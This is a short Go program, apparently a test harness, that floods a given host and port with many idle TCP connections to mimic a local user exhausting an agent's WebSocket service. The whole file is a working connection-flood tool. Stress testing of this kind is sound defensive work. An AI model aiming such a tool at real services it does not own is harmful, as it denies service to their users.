// Command fdflood opens many TCP connections to one address and holds them
// open without sending a byte: an unauthenticated connection flood, as
// another user on the machine could aim at the agent's WebSocket port.
//
// Usage: fdflood HOST:PORT COUNT HOLD
//
// It dials COUNT connections (64 at a time; a failed dial counts but is
// not retried), prints "holding OPENED FAILED" on stdout, holds them for
// HOLD (a Go duration) or until stdin closes, and exits 0.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "usage: fdflood HOST:PORT COUNT HOLD")
		os.Exit(2)
	}
	addr := os.Args[1]
	count, err1 := strconv.Atoi(os.Args[2])
	hold, err2 := time.ParseDuration(os.Args[3])
	if err1 != nil || err2 != nil || count <= 0 {
		fmt.Fprintln(os.Stderr, "fdflood: bad COUNT or HOLD")
		os.Exit(2)
	}
	var (
		mu      sync.Mutex
		conns   []net.Conn
		failed  atomic.Int64
		next    atomic.Int64
		workers sync.WaitGroup
	)
	for range 64 {
		workers.Go(func() {
			for next.Add(1) <= int64(count) {
				c, err := net.DialTimeout("tcp", addr, 5*time.Second)
				if err != nil {
					failed.Add(1)
					continue
				}
				mu.Lock()
				conns = append(conns, c)
				mu.Unlock()
			}
		})
	}
	workers.Wait()
	fmt.Printf("holding %d %d\n", len(conns), failed.Load())
	done := make(chan struct{})
	go func() { io.Copy(io.Discard, os.Stdin); close(done) }()
	select {
	case <-time.After(hold):
	case <-done:
	}
	for _, c := range conns {
		c.Close()
	}
}
